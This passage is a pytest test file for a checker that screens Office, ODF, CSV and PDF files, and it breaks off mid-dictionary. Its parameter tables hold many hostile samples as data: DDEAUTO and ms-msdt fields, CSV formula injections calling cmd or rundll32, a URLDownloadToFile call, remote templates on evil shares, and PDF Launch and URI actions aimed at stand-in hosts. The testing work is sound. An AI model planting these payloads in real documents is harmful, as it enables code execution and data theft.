"""Documents that were once let through, and more of their kinds: rows 124 (office documents, tables) and 125 (PDF).

Each is one honest document with one thing changed; beside them stand honest ones that look alike and are taken.
"""

import io
import struct
import zlib
from collections.abc import Mapping

import pypdf
import pytest

from tests import sample_files
from tests.security.test_documents import (
    CALC,
    KIND,
    ODF,
    SHEETS,
    WORDS,
    XLINK,
    char,
    code,
    field,
    judging,
    relations,
    run,
    text_part,
    verdict,
)

SPACES = {
    "": SHEETS,
    "w": WORDS,
    "r": KIND,
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "xlink": XLINK,
    "svg": "http://www.w3.org/2000/svg",
    "xi": "http://www.w3.org/2001/XInclude",
    "sl": "http://schemas.openxmlformats.org/schemaLibrary/2006/main",
    "we": "http://schemas.microsoft.com/office/webextensions/webextension/2010/11",
    "m": "http://schemas.openxmlformats.org/officeDocument/2006/math",
    "xsd": "http://www.w3.org/2001/XMLSchema",
    "xsi": "http://www.w3.org/2001/XMLSchema-instance",
    "x15ac": "http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac",
    **{name: f"{ODF}{name}:1.0" for name in ("office", "table", "text", "form", "script", "presentation")},
    "draw": f"{ODF}drawing:1.0",
}
DECLARED = " ".join(f'xmlns{":" * bool(name)}{name}="{space}"' for name, space in SPACES.items())


def element(body: str) -> str:
    return f"<a {DECLARED}>{body}</a>"


def link(kind: str, target: str, name: str = "r9") -> str:
    kind = kind if ":" in kind else f"{KIND}/{kind}"
    return f'<Relationship Id="{name}" Type="{kind}" Target="{target}" TargetMode="External"/>'


def office(parts: Mapping[str, str | bytes], declared: str = "") -> bytes:
    """The smallest document there is, with these parts and types of parts."""
    whole = {"[Content_Types].xml": sample_files.TYPES.replace("</Types>", declared + "</Types>"), **parts}
    members = {name: text.encode() if isinstance(text, str) else text for name, text in whole.items()}
    return sample_files.with_members(sample_files.small_document(), members)


def refused(parts: Mapping[str, str | bytes], declared: str = "") -> str:
    answer = verdict(office(parts, declared))
    assert "fault" not in answer, answer
    return str(answer["refused"])


# --- Fields: read as Word reads them --------------------------------------------------------------------------


def choice(*runs: str, other: str = "") -> str:
    branch = f'<mc:Choice Requires="foo">{"".join(runs)}</mc:Choice>'
    branches = f"{branch}<mc:Fallback>{other}</mc:Fallback>"
    return f'<mc:AlternateContent xmlns:mc="{SPACES["mc"]}">{branches}</mc:AlternateContent>'


def around(tag: str, *runs: str) -> str:
    return f"<w:{tag}>{''.join(runs)}</w:{tag}>"


def begun(*parts: str) -> str:
    """A field whose parts are runs already."""
    return run(char("begin")) + "".join(parts) + run(char("separate"), "<w:t>x</w:t>", char("end"))


PICTURE = "&quot;http://198.51.100.7/x.png&quot;"
FIELDS = {
    "a tab": (field(code(f"DDEAUTO\t{CALC}")), "command"),
    "a line": (field(code(f"DDEAUTO\n{CALC}")), "command"),
    "no-break space": (field(code(f"DDEAUTO\xa0{CALC}")), "command"),
    "ideographic space": (field(code(f"DDEAUTO\u3000{CALC}")), "command"),
    "nothing between": (field(code(f"DDEAUTO&quot;{CALC}&quot;")), "command"),
    "a tab in an attribute": ('<w:fldSimple w:instr="DDEAUTO&#9;cmd"/>', "command"),
    "an element for a tab": (field(code("DDEAUTO"), "<w:tab/>", code(CALC)), "command"),
    "a soft hyphen": (field(code(f"DDE\xadAUTO {CALC}")), "command"),
    "an element for a soft hyphen": (field(code("DDE"), "<w:softHyphen/>", code(f"AUTO {CALC}")), "command"),
    "a zero-width space": (field(code(f"\u200bDDEAUTO {CALC}")), "command"),
    "a joiner": (field(code(f"D\u2060D\u200dE {CALC}")), "command"),
    "letters of another script": (field(code(f"DD\u0415 {CALC}")), "strange"),
    "wide letters": (field(code(f"\uff24\uff24\uff25 {CALC}")), "strange"),
    "plain text in a command": (field(code("D"), "<w:t>DEAUTO cmd</w:t>"), "command"),
    "an unread branch before it": (begun(choice(run(code("PAGE "))), run(code(f"DDE {CALC}"))), "field"),
    "an unread branch ends another": (
        begun(
            choice(run(code("PAGE "), char("end"), char("begin"), code("PAGE "))), run(code(f"DDE {CALC}"))
        ),
        "field",
    ),
    "another branch makes it": (begun(choice(other=run(code(f"DDE {CALC}")))), "field"),
    "a field left open in a branch": (
        choice(run(char("begin"), code("PAGE "))) + field(code("PAGE")),
        "field",
    ),
    "a deleted run before it": (
        begun(around("del", run("<w:delInstrText>PAGE </w:delInstrText>")), run(code(f"DDE {CALC}"))),
        "command",
    ),
    "an added run before it": (begun(around("ins", run(code("PAGE "))), run(code(f"DDE {CALC}"))), "command"),
    "a run moved away before it": (
        begun(around("moveFrom", run(code("PAGE "))), run(code(f"DDE {CALC}"))),
        "command",
    ),
    "a deleted end": (
        begun(
            around("del", run(code("PAGE "), char("end"), char("begin"), code("PAGE "))), run(code("DDE x"))
        ),
        "command",
    ),
    "a computed result": (
        field('<w:fldSimple w:instr="QUOTE 68"><w:r><w:t>PAGE</w:t></w:r></w:fldSimple>', code(f" {CALC}")),
        "field",
    ),
    "a picture": (field(code(f"INCLUDEPICTURE{PICTURE}")), "picture"),
    "a picture after a tab": (field(code(f"INCLUDEPICTURE\t{PICTURE}")), "picture"),
    "a picture after a switch": (field(code(f"INCLUDEPICTURE \\d {PICTURE}")), "picture"),
    "a link that runs": (field(code("HYPERLINK &quot;ms-msdt:/id x&quot;")), "command"),
    "a link that runs after its hint": (
        field(code("HYPERLINK \\o &quot;a&quot; &quot;search-ms:x&quot;")),
        "command",
    ),
    "a program on a share": (field(code("HYPERLINK &quot;\\\\\\\\evil\\\\a.lnk&quot;")), "command"),
    "a button for a macro": (field(code("MACROBUTTON AutoOpen Press")), "macro"),
    "an object": (field(code("EMBED Package")), "embedded"),
    "a control": (field(code("CONTROL Forms.TextBox.1 \\s")), "embedded"),
    "printer commands": (field(code("PRINT 27 65")), "strange"),
    "printer commands that look like a date": (field(code("PRINT"), "<w:tab/>", code("DATE")), "strange"),
    "a database": (field(code("DATABASE\u2003\\d x")), "data"),
    "spaces around its beginning": (
        run('<w:fldChar w:fldCharType=" begin "/>', code("D"), code("DE x"), char("end")),
        "command",
    ),
    "the strict language": (
        field(code("PAGE"))
        + '<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr="DDE x"/>',
        "command",
    ),
    "a word cut by a comment": (field("<w:instrText>DD<!-- x -->E x</w:instrText>"), "command"),
    "a button beside a placeholder": (field(code("MACROBUTTON AutoOpen NoMacro")), "macro"),
    "a word list": (field(code("RD\u2009c:\\\\x.docx")), "object"),
}
HONEST_FIELDS = {
    "a citation": field(
        code("ADDIN ZOTERO_ITEM CSL_CITATION {&quot;uris&quot;:[&quot;http://zotero.org/x&quot;]}")
    ),
    "a placeholder": field(code("MACROBUTTON NoMacro [Click here]")),
    "a letter": field(code("HYPERLINK &quot;mailto:a@un.org?subject=Re: plan&quot;")),
    "a bookmark": field(code("HYPERLINK \\l &quot;_Toc1&quot;")),
    "a hint with a colon": field(code("HYPERLINK &quot;https://un.org&quot; \\o &quot;note: see&quot;")),
    "a file on a share": field(code("HYPERLINK &quot;\\\\\\\\files\\\\plans\\\\plan.docx&quot;")),
    "a condition": field(
        code("IF "), field(code("MERGEFIELD Sex")), code(" = &quot;F&quot; &quot;Ms.&quot; &quot;Mr.&quot;")
    ),
    "a reference": field(code("REF _Ref1 \\h ")),
    "a revised switch": begun(
        run(code("TOC \\o &quot;1-")),
        around("del", run("<w:delInstrText>3</w:delInstrText>")),
        around("ins", run(code("2"))),
        run(code("&quot;")),
    ),
    "an added field": around("ins", field(code("NUMPAGES"))),
    "a field in each branch": choice(field(code("PAGE")), other=field(code("PAGE"))),
    "a drawing in a result": run(
        char("begin"), code("HYPERLINK &quot;https://un.org&quot;"), char("separate")
    )
    + choice(run("<w:t>x</w:t>"))
    + run(char("end")),
    "an empty one": field(code(" ")),
}


@pytest.mark.parametrize("case", FIELDS)
def test_row_124_a_field_is_read_as_word_reads_it(case: str) -> None:
    body, word = FIELDS[case]
    assert refused({"word/footer1.xml": text_part(body)}) == word


@pytest.mark.parametrize("case", HONEST_FIELDS)
def test_row_124_fields_known_to_be_harmless_are_taken(case: str) -> None:
    assert refused({"word/footer1.xml": text_part(HONEST_FIELDS[case])}) == ""


# --- Relations: judged by what uses them ----------------------------------------------------------------------

USES = {
    "a template": ('<w:attachedTemplate r:id="r9"/>', "template"),
    "a linked picture": ('<a:blip r:link="r9"/>', "picture"),
    "a picture of a cell": ('<address r:id="r9"/>', "picture"),
    "under the mouse": ('<a:hlinkHover r:id="r9"/>', "hover"),
    "under the mouse in words": ('<a:hlinkMouseOver r:id="r9"/>', "hover"),
    "an old drawing": ('<v:imagedata o:relid="r9"/>', "picture"),
    "a name without a space": ('<a:thing relId="r9"/>', "fetches"),
    "a stylesheet": ('<w:saveThroughXslt r:id="r9"/>', "fetches"),
    "both": ('<w:hyperlink r:id="r9"/><w:altChunk r:id="r9"/>', "fetches"),
    "blanks in its number": ('<w:attachedTemplate r:id=" r9 "/>', "template"),
    "a link of no kind": ('<o:hyperlink r:id="r9"/>', "fetches"),
}


@pytest.mark.parametrize("case", USES)
@pytest.mark.parametrize("first", [True, False])
def test_row_124_a_link_is_one_only_where_a_click_follows_it(case: str, first: bool) -> None:
    body, word = USES[case]
    parts = {
        "word/x.xml": element(body),
        "word/_rels/X.xml.rels": relations(link("hyperlink", "http://evil.example/t")),
    }
    assert refused(parts if first else dict(reversed(parts.items()))) == word


@pytest.mark.parametrize(
    "body", ['<w:hyperlink r:id="r9"/>', '<hyperlink r:id="r9"/>', '<a:hlinkClick r:id="r9"/>']
)
def test_row_124_a_link_that_a_click_follows_is_taken(body: str) -> None:
    parts = {
        "word/x.xml": element(body),
        "word/_rels/x.xml.rels": relations(link("hyperlink", "https://www.un.org/")),
    }
    assert refused(parts) == ""


PROGRAMS = (
    "\\\\evil\\a.exe.",
    "\\\\evil\\a.exe::$DATA",
    "file://evil/a%2Eexe?x",
    "c:\\a.com",
    "ms-word:ofe|u|x",
    "data:text/html,x",
)
PAGES = (
    "www.un.org",
    "https://un.org/a.exe",
    "\\\\files\\a.docx",
    "tel:+99237",
    "un.org:8080/a",
    "Plan 2026.xlsx#A",
)


@pytest.mark.parametrize("target", PROGRAMS)
def test_row_124_a_link_that_would_run_something_is_refused(target: str) -> None:
    assert refused({"word/_rels/document.xml.rels": relations(link("hyperlink", target))}) == "command"


@pytest.mark.parametrize("target", PAGES)
def test_row_124_a_link_to_a_page_or_a_file_is_taken(target: str) -> None:
    assert refused({"word/_rels/document.xml.rels": relations(link("hyperlink", target))}) == ""


TARGETS = {
    "one slash": "file:/server/share/t.dotx",
    "wide backslashes": "\uff3c\uff3cevil/t.dotx",
    "division slashes": "\u2215\u2215evil/t.dotx",
    "a device": "file:///?/UNC/evil/t.dotx",
    "a device behind a drive": "file:///c:/../../??/UNC/evil/t.dotx",
    "a local device": "\\\\.\\UNC\\evil\\t.dotx",
    "localhost": "file://localhost/evil/t.dotx",
    "a variation selector": "ht\u2060tps://evil/t.dotx",
}


@pytest.mark.parametrize("case", TARGETS)
def test_row_124_a_template_on_another_computer_is_refused_by_more_ways(case: str) -> None:
    parts = {"word/_rels/settings.xml.rels": relations(link("attachedTemplate", TARGETS[case]))}
    assert refused(parts) == "template"


KINDS = {
    "a kind nobody knows": (f"{KIND}/somethingNew", "fetches"),
    "a link of another house": ("urn:evil/hyperlink", "fetches"),
    "a mail merge": (f"{KIND}/mailMergeSource", "data"),
    "a program": (f"{KIND}/hyperlink", "command"),
}


@pytest.mark.parametrize("case", KINDS)
def test_row_124_of_ones_own_disk_a_document_takes_what_is_known_to_be_harmless(case: str) -> None:
    kind, word = KINDS[case]
    assert (
        refused({"word/_rels/document.xml.rels": relations(link(kind, "file:///C:/Users/a/run.exe"))}) == word
    )


INSIDE = ("xlMacrosheet", "xlIntlMacrosheet", "wordVbaData", "connections", "webextension", "control")


@pytest.mark.parametrize("kind", INSIDE)
def test_row_124_a_part_that_acts_is_refused_by_its_relation(kind: str) -> None:
    kind = f"http://schemas.microsoft.com/office/2006/relationships/{kind}"
    line = f'<Relationship Id="r1" Type="{kind}" Target="a.xml"/>'
    assert refused({"xl/_rels/workbook.xml.rels": relations(line)}) in ("macro", "data", "addin", "embedded")


# --- Elements and attributes ----------------------------------------------------------------------------------

EVIL = "http://198.51.100.7/x"
PARTS = {
    "a schema's manifest": (f'<sl:schema sl:manifestLocation="{EVIL}"/>', "fetches"),
    "a schema on a share": ('<sl:schema sl:schemaLocation="\\\\evil\\s.xsd"/>', "fetches"),
    "an add-in": (
        '<we:webextension id="{1}"><we:reference store="\\\\evil\\share"/></we:webextension>',
        "addin",
    ),
    "another picture": (f'<v:imagedata o:althref="{EVIL}"/>', "picture"),
    "a base for all addresses": (f'<w:p xml:base="{EVIL}"/>', "fetches"),
    "an attribute nobody knows": (f'<w:p w:new="{EVIL}"/>', "fetches"),
    "a macro sheet": ('<macrosheet xmlns="http://schemas.microsoft.com/office/excel/2006/main"/>', "macro"),
    "a text that is read anew": ('<connection><textPr sourceFile="\\\\evil\\x.csv"/></connection>', "data"),
    "a connection's file": (f'<connection odcFile="{EVIL}.odc"/>', "data"),
    "a query": ('<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', "data"),
    "a panel": (f"<xsnLocation>{EVIL}.xsn</xsnLocation>", "fetches"),
    "an inclusion": ('<xi:include href="local.xml"/>', "fetches"),
    "a stylesheet": (f'<?xml-stylesheet type="text/xsl" href="{EVIL}"?>', "fetches"),
    "an old link that runs": ('<v:shape href="javascript:x"/>', "command"),
    "an action of a slide": ('<a:hlinkClick action="ppaction://ole?verb=0"/>', "command"),
    "a drawing with a script": ("<svg:script/>", "program"),
    "a form's source": ('<form:connection-resource xlink:href="sdbc:mysql://evil/x"/>', "data"),
    "a form's own file": ('<form:connection-resource xlink:href="a.odb"/>', "data"),
    "a form's picture": (f'<form:image form:image-data="{EVIL}"/>', "picture"),
    "a form's property": (f'<form:property office:string-value="{EVIL}"/>', "fetches"),
    "a form that sends": (f'<form:form xlink:href="{EVIL}"/>', "data"),
    "a link by itself": (f'<text:a xlink:href="{EVIL}" xlink:actuate="onLoad"/>', "fetches"),
    "a link to a script": ('<draw:a xlink:href="vnd.sun.star.script:a.py$b?location=user"/>', "command"),
    "a link to a macro": ('<text:a xlink:href="macro:///Standard.Module1.Main"/>', "command"),
    "a source of a database": ('<table:database-source-sql table:database-name="x"/>', "data"),
    "a listener": ('<script:event-listener script:event-name="dom:load"/>', "macro"),
    "a listener of a slide": ('<presentation:event-listener presentation:action="execute"/>', "macro"),
    "an old script": ("<text:script>x</text:script>", "macro"),
    "a macro at an error": ('<table:error-macro table:execute="true"/>', "macro"),
    "an object of one's own disk": ('<draw:object xlink:href="file:///C:/x.ods"/>', "object"),
    "an address in quotation marks": (f"<w:p w:new=\"'{EVIL}'\"/>", "fetches"),
    "a frame": ('<draw:floating-frame xlink:href="a.html"/>', "object"),
    "an expression": ('<table:named-expression table:expression="of:=WEBSERVICE(&quot;x&quot;)"/>', "data"),
    "a condition": ('<table:content-validation table:condition="of:is(WEBSERVICE(&quot;x&quot;))"/>', "data"),
    "DDE in a formula": (
        '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;)"/>',
        "command",
    ),
    "a sheet elsewhere": ("<table:table-cell table:formula=\"of:=['http://evil/x.ods'#$A.A1]\"/>", "data"),
}
HONEST_PARTS = {
    "where a workbook was saved": '<x15ac:absPath url="https://unitednations.sharepoint.com/sites/x/"/>',
    "schemas": f'<xsd:import namespace="{EVIL}" schemaLocation="{EVIL}.xsd"/><w:p xsi:schemaLocation="{EVIL} a"/>',
    "words about addresses": f'<a:cNvPr descr="{EVIL}" title="{EVIL}"/><w:docVar w:val="{EVIL}"/>',
    "words of a link": f'<hyperlink display="{EVIL}" tooltip="{EVIL}"/>',
    "a cell's words": f'<table:table-cell office:string-value="{EVIL}"/>',
    "where a name comes from": f'<w:smartTagType w:namespaceuri="{EVIL}" w:url="{EVIL}"/>',
    "an object within": '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="#a"/>',
    "a picture": '<draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
    "an article cited": f'<text:bibliography-mark text:url="{EVIL}"/>',
    "a fraction": "<m:f><m:num><m:r><m:t>a|b</m:t></m:r></m:num></m:f>",
    "a slide": '<a:hlinkClick action="ppaction://hlinksldjump"/><a:hlinkClick action="ppaction://media"/>',
    "a shape": '<a:gd fmla="*/ h 1 2"/><v:f eqn="if lineDrawn pixelLineWidth 0"/><v:shape href="https://un.org"/>',
    "a hash": '<sheetProtection hashValue="//ab3c/xyz" saltValue="//ab3c/xyz"/>',
    "no panel": "<customXsn><xsnLocation></xsnLocation></customXsn>",
}


@pytest.mark.parametrize("case", PARTS)
def test_row_124_a_part_that_reaches_out_is_refused(case: str) -> None:
    body, word = PARTS[case]
    assert refused({"customXml/item1.xml": element(body)}) == word


@pytest.mark.parametrize("case", HONEST_PARTS)
def test_row_124_words_and_names_that_look_like_addresses_are_taken(case: str) -> None:
    assert refused({"customXml/item1.xml": element(HONEST_PARTS[case])}) == ""


# --- Formulas -------------------------------------------------------------------------------------------------

CALLS = {
    "'cmd'|'/c calc'!A1": "command",
    "'cmd|/c calc'!A1": "command",
    '"a"&cmd|"x"!A1': "command",
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ")': "command",
    '_xlfn._xlws.RTD\n("x",,"y")': "command",
    'EXEC\xad("calc")': "command",
    "MAP(A1:A3,_xleta.WEBSERVICE)": "data",
    'COM.MICROSOFT.WEBSERVICE("x")': "data",
    'SQL.REQUEST("DSN=x","","select")': "data",
    "'\\\\evil\\share\\[x.xlsx]Sheet1'!A1": "data",
    "INDIRECT(\"'\\\\evil\\[x.xlsx]S'!A1\")": "data",
    "[http://evil/x.xlsx]S!A1": "data",
    "\\\\evil\\[x.xlsx]S!A1": "data",
    'IMPORTXML("http://evil/","//a")': "data",
    'HYPERLINK("ms-msdt:/id x","a")': "command",
}
HONEST_FORMULAS = (
    "SUM(A1:A3)",
    'HYPERLINK("https://www.un.org","UN")',
    'IF(A1="a|b!","x","y")',
    "SUM(Table1[M|F])",
    "'Plan 2026'!A1+'C:\\x\\[b.xlsx]S'!A1",
    "SUM({1;2|3;4})",
    'INDIRECT("Sheet"&amp;A1)',
)
PLACES = {
    "f": "<f>{}</f>",
    "in pieces": "<f>{}<b/></f>",
    "a column": "<calculatedColumnFormula>{}</calculatedColumnFormula>",
    "a total": "<totalsRowFormula>{}</totalsRowFormula>",
    "a rule": "<formula1><w:f>{}</w:f></formula1>",
    "a control": "<v:FmlaRange>{}</v:FmlaRange>",
}


def quoted(text: str) -> str:
    return text.replace("&amp;", "&").replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


@pytest.mark.parametrize("formula", CALLS)
def test_row_124_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    for place in PLACES.values():
        assert refused({"xl/a.xml": element(place.format(quoted(formula)))}) == CALLS[formula]
    assert refused({"xl/a.xml": element(f'<b textlink="{quoted(formula)}"/>')}) == CALLS[formula]


@pytest.mark.parametrize("formula", HONEST_FORMULAS)
def test_row_124_a_formula_that_reckons_is_taken(formula: str) -> None:
    assert refused({"xl/a.xml": element(f"<f>{quoted(formula)}</f>")}) == ""


# --- The ZIP --------------------------------------------------------------------------------------------------

RELS = "word/_rels/settings.xml.rels"
TEMPLATE = {RELS: relations(link("attachedTemplate", EVIL))}


def forged(content: bytes, at: bytes, offset: int, value: bytes) -> bytes:
    """The archive with some bytes changed of the last header that begins so."""
    data, start = bytearray(content), content.rfind(at) + offset
    data[start : start + len(value)] = value
    return bytes(data)


def twice(content: bytes, name: bytes, other: bytes) -> bytes:
    """The archive with the last name of a member written otherwise than in its own header."""
    start = content.rfind(name)
    return content[:start] + other + content[start + len(name) :]


def stored(name: str, content: bytes) -> bytes:
    return office({name: content})


EMPTY = struct.pack("<I", 0)
HARMLESS = office({"word/a.xml": element("")})
ARCHIVES = {
    "a size of nothing in the directory": forged(
        forged(office(TEMPLATE), b"PK\1\2", 24, EMPTY), b"PK\1\2", 16, EMPTY
    ),
    "a smaller size": forged(HARMLESS, b"PK\1\2", 24, struct.pack("<I", 9)),
    "another name in the directory": twice(office(TEMPLATE), RELS.encode(), b"x" * len(RELS)),
    "another way of packing": forged(HARMLESS, b"PK\1\2", 10, struct.pack("<H", 0)),
    "a locked member": forged(HARMLESS, b"PK\3\4", 6, struct.pack("<H", 1)),
    "a member no directory names": b"PK\3\4" + bytes(26) + HARMLESS,
    "a binary sheet": office(
        {"xl/s.bin": b"\x81\1\0"},
        '<Override PartName="/xl/s.bin" ContentType="application/vnd.ms-excel.worksheet"/>',
    ),
    "XML that is none": office(
        {"xl/s.bin": b"+ADw-"}, '<Override PartName="/xl/s.bin" ContentType="application/x+xml"/>'
    ),
    "an object by its content": stored("word/media/image1.png", sample_files.OLE),
    "a program by its content": stored("word/media/image1.png", sample_files.PROGRAM),
    "an archive by its content": stored("word/media/image1.png", HARMLESS),
    "a hostile workbook of a chart": stored("word/embeddings/a.xlsx", office(TEMPLATE)),
    "a workbook in a workbook": stored("word/embeddings/a.xlsx", stored("word/embeddings/a.xlsx", HARMLESS)),
    "a macro sheet by its type": office(
        {}, '<Override PartName="/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    ),
    "a macro sheet by its name": stored("xl/macrosheets/sheet1.xml", b"<a/>"),
    "a control": stored("word/activeX/activeX1.xml", b"<a/>"),
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_row_124_an_archive_is_read_as_it_is_packed(case: str) -> None:
    assert verdict(ARCHIVES[case])["refused"] in (
        "damaged",
        "locked",
        "macro",
        "embedded",
        "program",
        "nested",
        "template",
    )


def test_row_124_the_workbook_of_a_chart_is_taken() -> None:
    assert verdict(stored("word/embeddings/a.xlsx", sample_files.sheet()))["refused"] == ""


def test_row_124_a_bomb_is_stopped_whatever_its_directory_says() -> None:
    bomb = forged(office({"word/a.xml": b" " * (8 << 20)}), b"PK\1\2", 24, struct.pack("<I", 100))
    assert verdict(bomb)["refused"] == "damaged"


# --- Tables as text -------------------------------------------------------------------------------------------

CELLS = (
    "=cmd|'/c calc'!A0",
    "a,b\n1,=cmd|'/c calc'!A0",
    'a;=HYPERLINK("http://evil?x="&A1;"see")',
    '"=HYPERLINK(""http://evil/"",""x"")",a',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x\n-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    'a,"\t=WEBSERVICE(""http://evil/"")"',
    "a\r=IMPORTXML(A1)",
    " \xa0=EXEC(A1)",
    "\u200b=EXEC(A1)",
    "＝EXEC(A1)",
    "sep=^\r\na^=EXEC(A1)",
    "a|=EXEC(A1)",
    "a\u2028=EXEC(A1)",
    "=\tcmd|'/c calc'!A0",
    "+-=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '+ГИПЕРССЫЛКА("http://evil")',
    "-1+ВЕБСЛУЖБА(A1)",
    '+1+HYPERLINK("http://evil/","x")',
    "-1+_xlfn.WEBSERVICE(A1)",
)
HONEST_CELLS = (
    "a,-5\n+992 372 21-00-00,-3.5",
    "- item (see annex)\n- participant(s)\n-item(s); more",
    "+992 (37) 221 00 00|Great! Yes",
    "@mfa_tj (Twitter),=,==,= 5",
    '\'=HYPERLINK("http://x")',
    "a = b(c), d=e(f)",
    "2026-11-29,-,--,+",
    "- option a | option b! c",
    'x,"- one\n- two (three)"',
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_row_124_a_table_whose_cell_would_run_is_refused(encoding: str) -> None:
    answers = {text: verdict(text.encode(encoding), "csv")["refused"] for text in CELLS}
    assert {text for text, word in answers.items() if word not in ("formula", "data", "command")} == set()


@pytest.mark.parametrize("text", HONEST_CELLS)
def test_row_124_numbers_telephones_and_lists_are_taken(text: str) -> None:
    assert verdict(text.encode(), "csv")["refused"] == ""


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf(*more: str | bytes, catalog: str = "", page: str = "", root: str = "") -> bytes:
    """The smallest PDF there is, with these entries and objects from the fourth on."""
    kept = [
        root or f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]{page}>>",
        *more,
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(kept, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (
            number,
            content if isinstance(content, bytes) else content.encode("latin-1"),
        )
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(kept) + 1
    tail = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + tail


GO = "<</S/URI/URI(http://198.51.100.7/)>>"
CHAIN = "<</S/Named/N/NextPage/Next" * 60 + GO + ">>" * 60
LOOP = "<</S/Named/N/NextPage/Next[4 0 R 5 0 R]>>"
PACKED = zlib.compress(b"5 0 " + GO.encode())
IN_STREAM = b"<</Length %d>>stream\n5 0 obj %b endobj\nendstream" % (len(GO) + 15, GO.encode())
OBJECTS = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (
    len(PACKED),
    PACKED,
)
PDFS = {
    "sixty actions one after another": pdf(catalog="/OpenAction" + CHAIN),
    "actions in a ring": pdf(LOOP, GO, catalog="/OpenAction 4 0 R"),
    "a number written badly": pdf("<</S/URI/X 1..2--3/URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "a string written badly": pdf("<</S/URI/X <zz>/URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "a word nobody knows": pdf("<</S/URI/X @@ /URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "a comment": pdf("<</S/URI %>>\n/URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "brackets that don't match": pdf("<</S/URI/X [1 2 /URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "a string without an end": pdf("<</S/URI/X (1 2 /URI(http://evil)>>", catalog="/OpenAction 4 0 R"),
    "the second of two": pdf(catalog="/OpenAction null/OpenAction" + GO),
    "the first of two": pdf(catalog=f"/OpenAction{GO}/OpenAction null"),
    "another generation": pdf(GO, catalog="/OpenAction 4 1 R"),
    "an old revision": pdf("null", catalog="/OpenAction 4 0 R").replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n4 0 obj " + GO.encode() + b" endobj\n"
    ),
    "a later revision": pdf("null", catalog="/OpenAction 4 0 R") + b"4 %x\n0\tobj" + GO.encode() + b"endobj",
    "an object in a stream's bytes": pdf(IN_STREAM, catalog="/OpenAction 5 0 R"),
    "an object in a stream of objects": pdf(OBJECTS, catalog="/OpenAction 5 0 R"),
    "names with escapes": pdf(catalog="/Open#41ction<</#53/U#52I/U#52#49(http://evil)>>"),
    "a list of actions": pdf(catalog=f"/OpenAction[{GO}]"),
    "a list of occasions": pdf(page=f"/AA[{GO}]"),
    "an address by reference": pdf("5 0 R", "(http://evil)", catalog="/OpenAction<</S/URI/URI 4 0 R>>"),
    "a field's occasion": pdf(f"<</FT/Tx/AA<</F{GO}>>>>", catalog="/AcroForm<</Fields[4 0 R]>>"),
    "a share as the base of links": pdf(catalog="/URI<</Base(\\\\\\\\evil\\\\)>>"),
    "a share behind a click": pdf(page="/Annots[<</Subtype/Link/A<</S/URI/URI(file://evil/x)>>>>]"),
    "a share in UTF-16": pdf(page="/Annots[<</A<</S/GoToR/F<</UF<FEFF005C005C0065>>>>>>>]"),
    "a share in octal": pdf(catalog="/OpenAction<</S/GoToR/F(\\134\\134evil\\134a)>>"),
    "a share by reference": pdf("(\\\\\\\\evil\\\\a)", catalog="/OpenAction<</S/GoToR/F 4 0 R>>"),
    "a stream elsewhere": pdf(b"<</Length 0/F(\\\\\\\\evil\\\\a)>>stream\n\nendstream"),
    "a film": pdf(page="/Annots[<</Subtype/Movie/Movie<</F(http://evil/x.avi)>>>>]"),
    "a thread": pdf(catalog="/OpenAction<</S/Thread/F(//evil/a.pdf)>>"),
    "a form that sends": pdf("<</S/Submit#46orm/F(a)>>"),
    "data that come in": pdf("<</S/ImportData/F(a)>>"),
    "a program": pdf(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "a link that runs": pdf(page="/Annots[<</A<</S/URI/URI(javascript:x)>>>>]"),
    "rich media": pdf("<</S/RichMediaExecute>>"),
    "an enclosed file": pdf("<</Type/EmbeddedFile>>"),
    "an enclosed file that doesn't say so": pdf("<</EF<</F 5 0 R>>>>", b"<</Length 1>>stream\nM\nendstream"),
    "an action that says it is a page": pdf(catalog=f"/OpenAction<</Type/Page/S/Named/Next{GO}>>"),
    "a number far from its object": pdf("null", catalog="/OpenAction 4 0 R")
    + b"4%b0%bobj%bendobj" % (b" " * 900, b"%x\n" * 200, GO.encode()),
    "a reference with a sign": pdf(GO, catalog="/OpenAction +4 0 R"),
    "two ways to unpack": pdf(OBJECTS.replace(b"/Filter", b"/Filter/ASCIIHexDecode/Filter")),
    "a drawing that turns": pdf("<</Type/3D/OnInstantiate 5 0 R>>"),
}
HONEST_PDFS = {
    "nothing": pdf(),
    "a place": pdf(catalog="/OpenAction[3 0 R/Fit]", page=f"/Annots[<</Subtype/Link/A{GO}>>]"),
